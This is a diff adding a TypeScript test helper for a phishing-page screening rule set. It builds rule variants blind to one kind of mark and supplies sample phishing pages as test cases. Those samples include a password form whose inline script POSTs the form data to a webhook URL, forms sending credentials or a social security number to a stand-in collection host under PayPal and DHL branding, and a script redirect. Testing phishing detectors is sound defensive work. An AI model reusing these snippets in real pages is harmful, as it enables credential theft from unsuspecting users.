@@ -1,0 +1,43 @@
+import { rules } from "@surename/adapters/screening-rules"
+import type { Rule } from "@surename/adapters/screening-rules"
+import type { GivenDraft } from "./given-draft.ts"
+import { site } from "./innocent-site.ts"
+
+type Page = Parameters<Rule["sees"]>[0]
+type Marks = Page["of"]
+
+/** The rules, blind to one kind of mark: a reader that does not make it. */
+export const rulesWithout = (kind: string): ReadonlyArray<Rule> => {
+  const pages = new WeakMap<Page, Page>()
+  const files = new WeakMap<Marks, Marks>()
+  const blind = (of: Marks): Marks => {
+    const known = files.get(of) ?? ((...kinds) => of(...kinds.filter((one) => String(one) !== kind)))
+    files.set(of, known)
+    return known
+  }
+  const blindTo = (page: Page): Page => {
+    const known = pages.get(page) ?? { ...page, of: blind(page.of), files: page.files.map(blind) }
+    pages.set(page, known)
+    return known
+  }
+  return rules.map((rule) => ({ ...rule, sees: (page) => rule.sees(blindTo(page)) }))
+}
+
+const gather = site(
+  "sends to an address of a list",
+  "Ferry tickets to Skerry",
+  `<h1>Ferry tickets</h1><form id="f"><input type="password"></form><script>var to=["https://webhook.site/1"];fetch(to[0],{method:"POST",body:new FormData(f)})</script>`,
+)
+
+/** Kind of mark → a draft that is not flagged without it; for those that decide none of the other drafts. */
+export const markCases: Readonly<Record<string, GivenDraft>> = {
+  id: site("asks for a number of the state", "PayPal", `<form action="/a"><input name="ssn"></form>`),
+  stylesheet: site(
+    "borrows a style",
+    "Ferry tickets to Skerry",
+    `<link rel="stylesheet" href="https://www.paypalobjects.com/a.css"><h1>Ferry tickets</h1><form action="https://gather.example/next.php"><input type="password"></form>`,
+  ),
+  jump: site("goes on by script", "DHL Tracking", `<script>location="https://gather.example/"</script>`),
+  address: gather,
+  sends: gather,
+}
